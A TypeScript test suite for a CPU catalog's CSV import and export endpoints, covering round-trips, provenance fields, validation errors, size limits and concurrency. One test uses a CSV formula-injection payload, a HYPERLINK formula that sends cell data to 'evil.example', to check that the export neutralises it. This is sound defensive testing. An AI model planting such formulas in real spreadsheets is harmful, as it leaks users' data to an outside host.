import { createHash, randomUUID } from "node:crypto";
import { and, count, eq } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import type { Database } from "~/db/client.server";
import { apiTokens, benchmarkResults, cpus, user } from "~/db/schema";
import { apiErrorSchema } from "~/modules/api/api-error";
import { apiCpuDetailSchema, toApiCpuDetail } from "~/modules/api/cpu-shape";
import { createOrResetAccount } from "~/modules/auth/accounts.server";
import { CLIENT_ADDRESS_HEADER } from "~/modules/auth/client-request";
import { signIn } from "~/modules/auth/session.server";
import { recomputeOverallScore, upsertCpus } from "~/modules/catalog/cpu-store.server";
import { getCatalog, refreshCatalog } from "~/modules/catalog/catalog.server";
import {
  CSV_COLUMN_NAMES,
  exportCatalogCsv,
  importCpuCsv,
  MAX_CSV_BYTES,
} from "~/modules/catalog/csv.server";
import * as cpusCsvRoute from "~/routes/admin/cpus-csv";
import * as cpuRoute from "~/routes/api/cpu";
import * as uploadRoute from "~/routes/api/upload-csv";
import { adminCreateCommand } from "../support/account-command";
import { fixtureCpuInput, fixtureScore } from "../support/fixture-cpus";
import { useSeededDatabase, useTestDatabase } from "../support/suite-database";
import { testDatabases } from "../support/test-databases";
import { routeArgs } from "../support/route-args";

const TOKEN = "crk_csv-test-admin-token";

/** The suite's own CPUs: published figures with varied provenance, one without a spec source. */
const FIXTURES = [
  fixtureCpuInput(
    "fixture-csv-a",
    {
      name: "Fixture CSV A",
      cores: 16,
      threads: 32,
      performanceCores: 16,
      performanceCoreThreads: 32,
    },
    {
      geekbench6Multi: fixtureScore(21_000, { statistic: "median", sampleCount: null }),
      geekbench6Single: fixtureScore(3100, { sourceUrl: null, benchmarkVersion: null }),
      cinebenchR23Multi: fixtureScore(38_000, { statistic: "run", sampleCount: 1 }),
    },
  ),
  fixtureCpuInput("fixture-csv-b", { name: "Fixture CSV B" }),
  fixtureCpuInput("fixture-csv-c", { name: "Fixture CSV C", brand: "Intel", specSource: null }),
  fixtureCpuInput("fixture-csv-d", { name: "Fixture CSV D" }, {}),
  fixtureCpuInput("fixture-csv-e", { name: "Fixture CSV E" }),
  fixtureCpuInput("fixture-csv-f", { name: "Fixture CSV F", brand: "Intel" }),
];
const AUTH = { Authorization: `Bearer ${TOKEN}` };
/** The operator who downloads the catalog from the admin panel (a session: no token). */
const OPERATOR = { email: "csv-operator@example.com", password: "amber-harbor-72-quartz" };

describe.each(testDatabases)("CSV import and export on $name", (database) => {
  const testDatabase = useTestDatabase(database);
  let db: Database;

  const context = () => ({ db });
  let operatorCookie = "";

  async function upload(
    text: string | Uint8Array,
    options: { field?: string; headers?: Record<string, string> } = {},
  ): Promise<Response> {
    const form = new FormData();
    form.set(
      options.field ?? "csvFile",
      new Blob([text as BlobPart], { type: "text/csv" }),
      "cpus.csv",
    );
    const request = new Request("http://localhost/api/upload-csv", {
      method: "POST",
      headers: { ...AUTH, ...options.headers },
      body: form,
    });
    const response = await uploadRoute.action(routeArgs(request, {}, context()));
    expect(response.status).not.toBe(500);
    return response;
  }

  async function exportCsv(): Promise<Response> {
    const request = new Request("http://localhost/admin/cpus.csv", {
      headers: { cookie: operatorCookie },
    });
    return cpusCsvRoute.loader(routeArgs(request, {}, context()));
  }

  async function exportText(): Promise<string> {
    return (await exportCsv()).text();
  }

  async function cpuDetail(id: string) {
    const request = new Request(`http://localhost/api/cpus/${id}`);
    const response = await cpuRoute.loader({
      request,
      params: { cpuId: id },
      context: context(),
    } as never);
    return response.status === 200 ? apiCpuDetailSchema.parse(await response.json()) : null;
  }

  async function cpuCount(): Promise<number> {
    const [row] = await db.select({ n: count() }).from(cpus);
    return row!.n;
  }

  /** The exported rows as cells, and a CSV made of them with some cells replaced. */
  async function exportedRows(): Promise<{ header: string[]; rows: string[][] }> {
    const [header, ...rows] = parse(await exportText()) as string[][];
    return { header: header!, rows };
  }

  const quoted = (cells: readonly string[]) =>
    cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",");

  /** A CSV of one exported row per id, with cells replaced per line (`{ 3: { cores: "x" } }`). */
  async function csvOf(
    ids: string[],
    edits: Record<number, Record<string, string>> = {},
  ): Promise<string> {
    const { header, rows } = await exportedRows();
    const lines = ids.map((id, i) => {
      const cells = [...rows.find((row) => row[0] === id)!];
      for (const [column, cell] of Object.entries(edits[i + 2] ?? {}))
        cells[header.indexOf(column)] = cell;
      return quoted(cells);
    });
    return [header.join(","), ...lines].join("\n") + "\n";
  }

  beforeAll(async () => {
    db = testDatabase();
    await upsertCpus(db, FIXTURES);
    const id = randomUUID();
    await db
      .insert(user)
      .values({ id, name: "Admin", email: "csv-admin@example.com", role: "admin" });
    await db.insert(apiTokens).values({
      name: "CSV tests",
      tokenHash: createHash("sha256").update(TOKEN).digest("hex"),
      userId: id,
    });
    await createOrResetAccount(db, adminCreateCommand(OPERATOR.email, OPERATOR.password));
    const signedIn = await signIn(
      new Request("http://localhost/admin/sign-in", {
        method: "POST",
        headers: { [CLIENT_ADDRESS_HEADER]: "10.9.0.1" },
      }),
      db,
      OPERATOR,
    );
    if (!signedIn.ok) throw new Error(`the operator could not sign in: ${signedIn.message}`);
    operatorCookie = signedIn.headers
      .getSetCookie()
      .map((cookie) => cookie.split(";")[0]!)
      .join("; ");
  });

  it("exports the catalog as a dated CSV attachment with the import's columns", async () => {
    const response = await exportCsv();
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="corerank-cpus-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers.get("Cache-Control")).toContain("no-store");
    const { header, rows } = await exportedRows();
    expect(header).toEqual(CSV_COLUMN_NAMES);
    expect(rows).toHaveLength(await cpuCount());
  });

  it("re-imports an export without changing anything, visitors' results included", async () => {
    // A verified visitor result: exported nowhere, and kept by the import.
    await db.insert(benchmarkResults).values({
      cpuId: "fixture-csv-a",
      benchmark: "cinebench-r23-multi",
      score: 37000,
      source: "visitor",
      sampleCount: 3,
      recordedOn: "2026-11-20",
    });
    await recomputeOverallScore(db, "fixture-csv-a");
    await refreshCatalog(db);
    const exported = await exportText();
    const cpusBefore = await db.select().from(cpus).orderBy(cpus.id);
    const resultsBefore = await db.select().from(benchmarkResults).orderBy(benchmarkResults.id);
    const detailBefore = await cpuDetail("fixture-csv-a");

    const response = await upload(exported);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ created: 0, updated: 0, unchanged: cpusBefore.length });

    expect(await db.select().from(cpus).orderBy(cpus.id)).toEqual(cpusBefore);
    expect(await db.select().from(benchmarkResults).orderBy(benchmarkResults.id)).toEqual(
      resultsBefore,
    );
    expect(await cpuDetail("fixture-csv-a")).toEqual(detailBefore);
    expect(detailBefore?.scores.cinebenchR23Multi).toMatchObject({
      value: 38_000,
      basis: "published",
      visitors: { count: 1, median: 37_000 },
    });
    expect(await exportText()).toBe(exported);
  });

  it("exports each figure's provenance and the spec source, and the import keeps them", async () => {
    const { header, rows } = await exportedRows();
    const row = rows.find((cells) => cells[0] === "fixture-csv-a")!;
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i]]));
    expect(cells).toMatchObject({
      spec_source_name: "Fixture Vendor product page",
      spec_source_url: "https://example.com/products/fixture-csv-a",
      spec_source_date: "2026-02-15",
      geekbench6_multi: "21000",
      geekbench6_multi_statistic: "median",
      geekbench6_multi_samples: "",
      geekbench6_multi_source: "Fixture Benchmark Chart",
      geekbench6_multi_date: "2026-03-01",
      geekbench6_single_url: "",
      cinebench_r23_multi_statistic: "run",
      cinebench_r23_multi_samples: "1",
    });
    const noSource = rows.find((cells) => cells[0] === "fixture-csv-c")!;
    expect(noSource[header.indexOf("spec_source_name")]).toBe("");

    // A new figure with its provenance, written through the import, comes back in the export.
    const response = await upload(
      await csvOf(["fixture-csv-d"], {
        2: {
          passmark_cpu: "41000",
          passmark_cpu_statistic: "mean",
          passmark_cpu_samples: "",
          passmark_cpu_source: "Fixture PassMark chart",
          passmark_cpu_url: "https://example.com/passmark/d",
          passmark_cpu_date: "2026-06-30",
          passmark_cpu_version: "11",
        },
      }),
    );
    expect(await response.json()).toEqual({ created: 0, updated: 1, unchanged: 0 });
    expect((await cpuDetail("fixture-csv-d"))?.scores.passmarkMulti).toEqual({
      value: 41_000,
      basis: "published",
      published: {
        score: 41_000,
        statistic: "mean",
        sampleCount: null,
        sourceName: "Fixture PassMark chart",
        sourceUrl: "https://example.com/passmark/d",
        sourcePage: "cpu",
        publishedOn: "2026-06-30",
        dateMeaning: "published",
        copy: null,
        benchmarkVersion: "11",
      },
      visitors: null,
    });
    const [stored] = await db
      .select()
      .from(benchmarkResults)
      .where(
        and(
          eq(benchmarkResults.cpuId, "fixture-csv-d"),
          eq(benchmarkResults.benchmark, "passmark-multi"),
        ),
      );
    expect(stored).toMatchObject({ sampleCount: null, recordedOn: "2026-06-30" });
  });

  it("updates a figure whose provenance alone changed", async () => {
    const response = await upload(
      await csvOf(["fixture-csv-e"], {
        2: { geekbench6_multi_source: "Corrected Chart", geekbench6_multi_samples: "" },
      }),
    );
    expect(await response.json()).toEqual({ created: 0, updated: 1, unchanged: 0 });
    expect((await cpuDetail("fixture-csv-e"))?.scores.geekbench6Multi?.published).toMatchObject({
      score: 14_000,
      sourceName: "Corrected Chart",
      sampleCount: null,
    });
  });

  it("refuses a value without its source name and date (422 by line and column)", async () => {
    const response = await upload(
      await csvOf(["fixture-csv-e", "fixture-csv-f"], {
        3: { geekbench6_multi_source: "", geekbench6_multi_date: "", passmark_single: "4100" },
      }),
    );
    expect(response.status).toBe(422);
    const { error } = apiErrorSchema.parse(await response.json());
    expect(error.problems).toEqual(
      expect.arrayContaining([
        { line: 3, field: "geekbench6_multi_source", message: "is required" },
        { line: 3, field: "geekbench6_multi_date", message: "is required" },
        { line: 3, field: "passmark_single_source", message: "is required" },
      ]),
    );
    expect(error.fields.geekbench6_multi_source).toEqual(["line 3: is required"]);
  });

  it("carries a launch price range through import, the API and export, and refuses an upper bound below the lower", async () => {
    const range = { id: "fixture-csv-range", name: "Fixture CSV Range" };
    const created = await upload(
      await csvOf(["fixture-csv-b"], { 2: { ...range, price: "184", price_max: "194" } }),
    );
    expect(created.status).toBe(200);
    expect(await created.json()).toMatchObject({ created: 1 });
    expect(await cpuDetail(range.id)).toMatchObject({ price: 184, priceMax: 194 });
    const { header, rows } = await exportedRows();
    const row = rows.find((cells) => cells[0] === range.id)!;
    expect([row[header.indexOf("price")], row[header.indexOf("price_max")]]).toEqual([
      "184",
      "194",
    ]);
    const again = await upload(await csvOf([range.id]));
    expect(await again.json()).toEqual({ created: 0, updated: 0, unchanged: 1 });

    const below = await upload(await csvOf([range.id], { 2: { price_max: "150" } }));
    expect(below.status).toBe(422);
    const { error } = apiErrorSchema.parse(await below.json());
    expect(error.problems).toEqual([
      {
        line: 2,
        field: "price_max",
        message: "must be at least the launch price (the lower bound of the range)",
      },
    ]);
    // A single price clears the upper bound: an empty cell is no range.
    await upload(await csvOf([range.id], { 2: { price: "199", price_max: "" } }));
    expect(await cpuDetail(range.id)).toMatchObject({ price: 199, priceMax: null });
  });

  it("creates new ids and updates existing ones, then shows them through the API", async () => {
    const text = await csvOf(["fixture-csv-b", "fixture-csv-c"], {
      2: { id: "fixture-csv-b-new", name: "Fixture CSV B (new)" },
      3: { price: "199", geekbench6_multi: "17500" },
    });
    const before = await cpuCount();
    const response = await upload(text);
    expect(response.status).toBe(200);
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    expect(await response.json()).toEqual({ created: 1, updated: 1, unchanged: 0 });
    expect(await cpuCount()).toBe(before + 1);
    expect(await cpuDetail("fixture-csv-b-new")).toMatchObject({
      name: "Fixture CSV B (new)",
    });
    const updated = await cpuDetail("fixture-csv-c");
    expect(updated).toMatchObject({ price: 199, benchmarkScore: 17500 });
    expect(updated?.scores.geekbench6Multi).toMatchObject({
      value: 17500,
      basis: "published",
      published: { score: 17500, sourceName: "Fixture Benchmark Chart", publishedOn: "2026-03-01" },
    });
    // The row that was not imported keeps its figures as they were.
    const kept = await db
      .select()
      .from(benchmarkResults)
      .where(
        and(eq(benchmarkResults.cpuId, "fixture-csv-b"), eq(benchmarkResults.source, "reference")),
      );
    expect(kept.map((r) => r.recordedOn)).toEqual(kept.map(() => "2026-03-01"));
    expect(kept).toHaveLength(4);
  });

  it("accepts a byte order mark, Windows line endings and quoted commas", async () => {
    const text = await csvOf(["fixture-csv-d"], {
      2: { id: "fixture-csv-d-bom", instruction_set: 'x86-64, AVX-512, "VNNI"' },
    });
    const response = await upload(`\uFEFF${text.replaceAll("\n", "\r\n")}`);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ created: 1, updated: 0, unchanged: 0 });
    expect(await cpuDetail("fixture-csv-d-bom")).toMatchObject({
      instructionSet: 'x86-64, AVX-512, "VNNI"',
    });
  });

  it("imports a semicolon file (European Excel) and a tab file like a comma file", async () => {
    const { header, rows } = await exportedRows();
    const row = [...rows.find((cells) => cells[0] === "fixture-csv-f")!];
    row[header.indexOf("tdp")] = "95";
    row[header.indexOf("base_freq")] = "3,4";
    const semicolons = [header, row].map((cells) => quoted(cells).replaceAll('","', '";"'));
    const response = await upload(semicolons.join("\r\n"));
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ created: 0, updated: 1, unchanged: 0 });
    expect(await cpuDetail("fixture-csv-f")).toMatchObject({ tdp: 95, baseFreq: 3.4 });
    const stored = (await exportedRows()).rows.find((cells) => cells[0] === "fixture-csv-f")!;
    const tabs = [header, stored].map((cells) => cells.join("\t")).join("\n");
    expect(await (await upload(tabs)).json()).toEqual({ created: 0, updated: 0, unchanged: 1 });
  });

  it("applies a file with only some columns to the CPUs it names, and says which", async () => {
    const before = await cpuDetail("fixture-csv-b");
    const text = "id,price,tdp\nfixture-csv-b,249,88\nfixture-csv-c,,\n";
    const preview = await importCpuCsv(db, text, { dryRun: true });
    expect(preview).toMatchObject({ dryRun: true, updated: 2, columns: ["id", "price", "tdp"] });
    expect(await cpuDetail("fixture-csv-b")).toEqual(before);

    const outcome = await importCpuCsv(db, text);
    expect(outcome).toEqual({
      kind: "imported",
      dryRun: false,
      created: 0,
      updated: 2,
      unchanged: 0,
      columns: ["id", "price", "tdp"],
      partial: true,
      ids: { created: [], updated: ["fixture-csv-b", "fixture-csv-c"], unchanged: [] },
    });
    const after = await cpuDetail("fixture-csv-b");
    // Only price and tdp changed: name, specifications, source and figures are as they were.
    expect(after).toEqual({ ...before, price: 249, tdp: 88 });
    expect(await cpuDetail("fixture-csv-c")).toMatchObject({ price: null, tdp: null });
    // The same file again changes nothing.
    expect(await importCpuCsv(db, text)).toMatchObject({ updated: 0, unchanged: 2 });
  });

  it("exports text a spreadsheet would run as a formula behind a quote, and imports it back", async () => {
    const name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const text = await csvOf(["fixture-csv-d"], { 2: { id: "fixture-csv-formula", name } });
    expect((await upload(text)).status).toBe(200);
    const { header, rows } = await exportedRows();
    const row = rows.find((cells) => cells[0] === "fixture-csv-formula")!;
    expect(row[header.indexOf("name")]).toBe(`'${name}`);
    // Export → import: the quote is removed again and nothing changes.
    const exported = await exportText();
    expect(await importCpuCsv(db, exported)).toMatchObject({ created: 0, updated: 0 });
    expect((await cpuDetail("fixture-csv-formula"))?.name).toBe(name);
  });

  describe("a file with any invalid row", () => {
    const cases: [string, () => Promise<string>, { line: number; field: string | null }[]][] = [
      [
        "a missing required value",
        () => csvOf(["fixture-csv-e", "fixture-csv-f"], { 3: { name: "" } }),
        [{ line: 3, field: "name" }],
      ],
      [
        "a value of the wrong type",
        () => csvOf(["fixture-csv-e", "fixture-csv-f"], { 3: { cores: "many" } }),
        [{ line: 3, field: "cores" }],
      ],
      [
        "an unknown brand",
        () => csvOf(["fixture-csv-e"], { 2: { brand: "Qualcomm" } }),
        [{ line: 2, field: "brand" }],
      ],
      [
        "fewer threads than cores",
        () =>
          csvOf(["fixture-csv-e"], {
            2: { threads: "6", performance_core_threads: "", efficiency_core_threads: "" },
          }),
        [{ line: 2, field: "threads" }],
      ],
      [
        "an id that is not a slug",
        () => csvOf(["fixture-csv-e"], { 2: { id: "fixture-a-vs-b" } }),
        [{ line: 2, field: "id" }],
      ],
      [
        "an id twice",
        () => csvOf(["fixture-csv-f", "fixture-csv-e", "fixture-csv-f"]),
        [{ line: 4, field: "id" }],
      ],
      [
        "an unknown column",
        async () => (await csvOf(["fixture-csv-e"])).replace("id,name", "id,nam"),
        [{ line: 1, field: "nam" }],
      ],
      [
        "a required column missing for a new CPU",
        async () => {
          const [header, row] = (await csvOf(["fixture-csv-e"])).split("\n");
          const keep = (cells: string[]) => cells.filter((_, i) => i !== 4);
          const cells = parse(row!)[0] as string[];
          return `${keep(header!.split(",")).join(",")}\n${quoted(keep(cells))}\n`;
        },
        [{ line: 2, field: "cores" }],
      ],
      ["no id column", async () => "name,tdp\nFixture CSV E,65\n", [{ line: 1, field: "id" }]],
    ];

    it.each(cases)(
      "(%s) answers 422 by line and column and writes nothing",
      async (_, make, expected) => {
        // A valid new CPU on the first data line: it must not be written either.
        const text = (await make()).replace(/\n"fixture-csv-e"/, '\n"fixture-csv-e-new"');
        const before = await exportText();
        const response = await upload(text);
        expect(response.status).toBe(422);
        expect(response.headers.get("Cache-Control")).toBe("no-store");
        const { error } = apiErrorSchema.strict().parse(await response.json());
        expect(error.code).toBe("invalid_csv");
        expect(error.message).toContain("nothing was imported");
        expect(error.problems?.map(({ line, field }) => ({ line, field }))).toEqual(expected);
        for (const { line, field } of expected)
          expect(error.fields[field!]).toContainEqual(
            expect.stringMatching(new RegExp(`^line ${line}: `)),
          );
        expect(await exportText()).toBe(before);
      },
    );
  });

  it("answers 413 for a file over the limit and writes nothing", async () => {
    // Just over the limit: the form around it is within the body's allowance, the file is not.
    const header = `${CSV_COLUMN_NAMES.join(",")}\n`;
    const big = header + "\n".repeat(MAX_CSV_BYTES + 1 - header.length);
    expect(big.length).toBe(MAX_CSV_BYTES + 1);
    const before = await cpuCount();
    const response = await upload(big);
    expect(response.status).toBe(413);
    expect(apiErrorSchema.parse(await response.json()).error.code).toBe("payload_too_large");
    expect(await cpuCount()).toBe(before);
    expect(await importCpuCsv(db, big)).toEqual({ kind: "too-large", limitBytes: MAX_CSV_BYTES });
  });

  it("answers 413 to a body over the limit that does not state its length", async () => {
    const chunk = new TextEncoder().encode("x".repeat(64 * 1024));
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent > MAX_CSV_BYTES * 2) controller.close();
        else controller.enqueue(chunk);
        sent += chunk.byteLength;
      },
    });
    const request = new Request("http://localhost/api/upload-csv", {
      method: "POST",
      headers: { ...AUTH, "Content-Type": "multipart/form-data; boundary=x" },
      body,
      duplex: "half",
    } as RequestInit);
    const response = await uploadRoute.action(routeArgs(request, {}, context()));
    expect(response.status).toBe(413);
    expect(apiErrorSchema.parse(await response.json()).error.message).toContain(
      MAX_CSV_BYTES.toLocaleString("en"),
    );
    expect(sent).toBeLessThan(MAX_CSV_BYTES * 2);
  });

  it("answers 400 without the csvFile field, 415 for a body that is not a form, 422 for binary", async () => {
    const missing = await upload(await csvOf(["fixture-csv-e"]), { field: "file" });
    expect(missing.status).toBe(400);
    expect(apiErrorSchema.parse(await missing.json()).error).toMatchObject({
      code: "missing_file",
      fields: { csvFile: ["is required"] },
    });
    const request = new Request("http://localhost/api/upload-csv", {
      method: "POST",
      headers: { ...AUTH, "Content-Type": "text/csv" },
      body: await csvOf(["fixture-csv-e"]),
    });
    const notForm = await uploadRoute.action(routeArgs(request, {}, context()));
    expect(notForm.status).toBe(415);
    const binary = await upload(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, 0xfe, 0x00]));
    expect(binary.status).toBe(422);
    const notCsv = await upload("just some text\nwithout the columns\n");
    expect(notCsv.status).toBe(422);
    const noBoundary = new Request("http://localhost/api/upload-csv", {
      method: "POST",
      headers: { ...AUTH, "Content-Type": "multipart/form-data" },
      body: "id,name",
    });
    const unreadable = await uploadRoute.action({
      request: noBoundary,
      params: {},
      context: context(),
    } as never);
    expect(unreadable.status).toBe(400);
  });

  it("lists at most the first 200 problems of a file wrong throughout, with the total", async () => {
    const { header, rows } = await exportedRows();
    const row = quoted(rows[0]!.map((cell, i) => (header[i] === "cores" ? "x" : cell)));
    const response = await upload([header.join(","), ...Array(300).fill(row)].join("\n"));
    const { error } = apiErrorSchema.parse(await response.json());
    expect(error.problems).toHaveLength(200);
    expect(error.message).toContain("300 problems");
  });

  it("reports two imports racing for one new id as imported or a conflict, never a driver's error", async () => {
    const text = await csvOf(["fixture-csv-e"], { 2: { id: "fixture-csv-raced" } });
    const outcomes = await Promise.all([importCpuCsv(db, text), importCpuCsv(db, text)]);
    for (const outcome of outcomes) expect(["imported", "conflict"]).toContain(outcome.kind);
    expect(outcomes.some((o) => o.kind === "imported" && o.created === 1)).toBe(true);
  });

  it("reports a database that does not answer as an outcome of the import and the export", async () => {
    // Every query fails as a PostgreSQL server that cannot be reached does.
    const refused = Object.assign(new Error("connect ECONNREFUSED 127.0.0.1:5432"), {
      code: "ECONNREFUSED",
    });
    const unreachable = new Proxy({} as Database, {
      get: () => () => {
        throw refused;
      },
    });
    const text = await csvOf(["fixture-csv-e"]);
    expect(await importCpuCsv(unreachable, text)).toEqual({ kind: "database-unavailable" });
    expect(await exportCatalogCsv(unreachable)).toEqual({ kind: "database-unavailable" });
  });

  it("gives the admin panel the same outcomes through importCpuCsv", async () => {
    const invalid = await importCpuCsv(db, await csvOf(["fixture-csv-e"], { 2: { cores: "x" } }));
    expect(invalid).toEqual({
      kind: "invalid",
      problems: [{ line: 2, field: "cores", message: "must be a number, not 'x'" }],
    });
    const same = await importCpuCsv(db, await csvOf(["fixture-csv-e"]));
    expect(same).toEqual({
      kind: "imported",
      dryRun: false,
      created: 0,
      updated: 0,
      unchanged: 1,
      columns: CSV_COLUMN_NAMES,
      partial: false,
      ids: { created: [], updated: [], unchanged: ["fixture-csv-e"] },
    });
  });
});

/** The catalog export's CSV (its domain outcome, without the download around it). */
async function exportedCsv(db: Database): Promise<string> {
  const outcome = await exportCatalogCsv(db);
  if (outcome.kind !== "exported") throw new Error(`no export: ${outcome.kind}`);
  return outcome.csv;
}

describe.each(testDatabases)("the shipped dataset through CSV and the API on $name", (database) => {
  const seededDatabase = useSeededDatabase(database);

  it("exports every CPU and re-imports the export without changing anything", async () => {
    const db = seededDatabase();
    const exported = await exportedCsv(db);
    const cpusBefore = await db.select().from(cpus).orderBy(cpus.id);
    const resultsBefore = await db.select().from(benchmarkResults).orderBy(benchmarkResults.id);
    expect(parse(exported)).toHaveLength(cpusBefore.length + 1);
    expect(await importCpuCsv(db, exported)).toMatchObject({
      kind: "imported",
      created: 0,
      updated: 0,
      unchanged: cpusBefore.length,
      partial: false,
    });
    expect(await db.select().from(cpus).orderBy(cpus.id)).toEqual(cpusBefore);
    expect(await db.select().from(benchmarkResults).orderBy(benchmarkResults.id)).toEqual(
      resultsBefore,
    );
    expect(await exportedCsv(db)).toBe(exported);
  });

  it("gives every shipped CPU in the API's documented shape", async () => {
    await refreshCatalog(seededDatabase());
    const shipped = getCatalog().cpus;
    expect(shipped.length).toBeGreaterThan(0);
    for (const cpu of shipped) apiCpuDetailSchema.strict().parse(toApiCpuDetail(cpu, {}));
  });
});
